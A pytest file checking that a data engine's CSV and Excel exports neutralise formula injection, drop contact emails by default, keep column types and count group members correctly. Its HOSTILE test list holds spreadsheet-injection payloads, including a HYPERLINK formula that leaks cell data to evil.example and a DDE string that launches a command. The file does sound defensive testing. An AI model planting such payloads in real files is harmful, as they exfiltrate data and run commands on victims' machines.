"""Safe exports: untrusted text arrives inert in CSV and Excel; no contact data by default."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from openpyxl import load_workbook

from engine.domain.cells import FORMULA_STARTS, neutralise, restore
from engine.output.exports import safe_table, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

STORED = [text.replace("\r", "\n") for text in HOSTILE]  # a CR in a cell is written as LF


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "visitor_id": ["V1"] * len(HOSTILE),
            "org_name": HOSTILE,
            "score": [-5.5, 1.0, 2.0, 3.0, 4.0, 5.0],  # numbers stay numbers, even negative
            "start": pd.to_datetime(["2027-01-04"] * len(HOSTILE)),
            "contact_email": ["someone@example.org"] * len(HOSTILE),
        }
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_makes_text_inert_and_restore_undoes_it(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore(safe) == text


def test_harmless_values_are_untouched():
    for value in ("Acme GmbH", "V-1", "", 3, -2.5, None):
        assert neutralise(value) == value
        assert restore(value) == value
    assert restore("'quoted on purpose") == "'quoted on purpose"


def test_csv_cells_never_start_with_a_formula_character(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(table(), path)
    with path.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["org_name"] for row in rows] == [f"'{text}" for text in STORED]
    assert rows[0]["score"] == "-5.5" and rows[0]["start"] == "2027-01-04"
    assert "contact_email" not in rows[0]
    assert "@example.org" not in path.read_text()


def test_excel_cells_hold_text_not_formulas(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx({"proposals": table()}, path, choices={"visitor_id": ["V1", "V2"]})
    sheet = load_workbook(path)["proposals"]
    header = [cell.value for cell in sheet[1]]
    assert "contact_email" not in header
    names = [row[header.index("org_name")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)  # no "f" (formula)
    assert [cell.value for cell in names] == [f"'{text}" for text in STORED]
    score = sheet.cell(row=2, column=header.index("score") + 1)
    assert score.value == -5.5 and score.data_type == "n"
    assert len(sheet.data_validations.dataValidation) == 1


def test_contacts_only_when_asked_for():
    assert "contact_email" not in safe_table(table()).columns
    assert "contact_email" in safe_table(table(), include_contacts=True).columns


def test_control_characters_do_not_break_the_workbook(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx({"sheet": pd.DataFrame({"text": ["bell\x07 and nul\x00"]})}, path)
    assert load_workbook(path)["sheet"].cell(row=2, column=1).value == "bell\ufffd and nul\ufffd"


def test_each_kind_of_column_becomes_the_cell_it_is(tmp_path):
    path = tmp_path / "out.xlsx"
    kinds = pd.DataFrame(
        {
            "real": [1.5, float("nan"), float("inf")],
            "whole": pd.array([1, 2, 3], dtype="int64"),
            "maybe": pd.array([1, None, 3], dtype="Int64"),
            "flag": [True, False, True],
            "text": pd.array(["a\x01b", "", None], dtype="string"),
            "mixed": ["x", None, 3],
            "band": ["red", "green", "purple"],
            "day": pd.to_datetime(["2027-01-04", None, "2027-02-01"]),
        }
    )
    write_xlsx({"sheet": kinds}, path)
    rows = list(load_workbook(path)["sheet"].iter_rows(min_row=2))
    values = [[cell.value for cell in row] for row in rows]
    assert [row[:6] for row in values] == [
        [1.5, 1, 1, True, "a\ufffdb", "x"],
        [None, 2, None, False, None, None],  # NaN, missing and "" as empty cells
        ["inf", 3, 3, True, None, 3],  # a number a workbook cannot hold, as text
    ]
    assert [row[6].fill.fgColor.rgb[-6:] for row in rows[:2]] == ["F4B6B6", "B9E3C6"]
    assert rows[2][6].fill.fgColor.rgb in (None, "00000000")  # no band colour for others
    assert [row[7].value for row in rows] == [
        pd.Timestamp("2027-01-04").to_pydatetime(),
        None,
        pd.Timestamp("2027-02-01").to_pydatetime(),
    ]


def test_the_it_tool_export_holds_the_alternatives_reviewers_took_as_the_run_s():
    """The audit: an exchange a reviewer took as an alternative (recorded under the run's id)
    was left out of the export, and its group counted two visitors of three."""
    from engine.output.it_tool import accepted_exchanges, with_taken

    day = pd.Timestamp("2027-03-01")
    proposals = pd.DataFrame(
        {"run_id": "r1", "visitor_id": ["A", "B"], "host_id": "H1", "group_id": "G",
         "start": day, "end": day, "stay_days": 3, "mode": "virtual", "lump_sum_eur": 0.0}
    )  # fmt: skip
    taken = pd.DataFrame(
        {"visitor_id": ["C", "D"], "host_id": "H1", "mode": "virtual",
         "start_day": "2027-03-01", "end_day": "2027-03-01", "stay_days": 3, "score": 50.0,
         "group_id": "G", "group_language": "en", "lump_sum_eur": 0.0, "run_id": ["r1", "r0"]}
    )  # fmt: skip
    decisions = pd.DataFrame(
        {"visitor_id": ["A", "B", "C", "D"], "host_id": "H1", "decision": "accepted",
         "run_id": ["r1", "r1", "r1", "r0"]}
    )  # fmt: skip
    exchanges = accepted_exchanges(with_taken(proposals, taken, "r1"), decisions, "r1")
    assert sorted(exchanges["visitor_id"]) == ["A", "B", "C"]  # D was taken as r0's
    assert exchanges.set_index("visitor_id").loc["C", "start"] == day


def test_a_group_s_members_count_whichever_run_proposed_them(tmp_path):
    """The audit: a group of three accepted members, one proposed by the first run and two
    by the second, was exported as 'Grouped exchange No, 1 visitor' and 'Yes, 2'."""
    from engine.output.it_tool import group_members
    from tests.factory import host, make_campaign, visitor

    profiles = [visitor("A"), visitor("B", country="IT"), visitor("C", country="ES"), host("H")]
    history = [
        {"visitor_id": v, "host_id": "H", "decided_on": "2027-01-05", "outcome": "accepted",
         "mode": "physical", "start": "2027-03-30", "end": "2027-04-01"}
        for v in ("A", "B", "C")
    ]  # fmt: skip
    campaign = make_campaign(tmp_path, profiles, history)
    run_one = pd.DataFrame(
        [{"visitor_id": "A", "host_id": "H", "group_id": "H-20270330-3P-en", "mode": "physical",
          "start": pd.Timestamp("2027-03-30"), "end": pd.Timestamp("2027-04-01")}]
    )  # fmt: skip
    assert group_members(run_one, campaign) == [3]
    other_dates = run_one.assign(start=pd.Timestamp("2027-04-05"), end=pd.Timestamp("2027-04-07"))
    assert group_members(other_dates, campaign) == [1]  # its own, at least
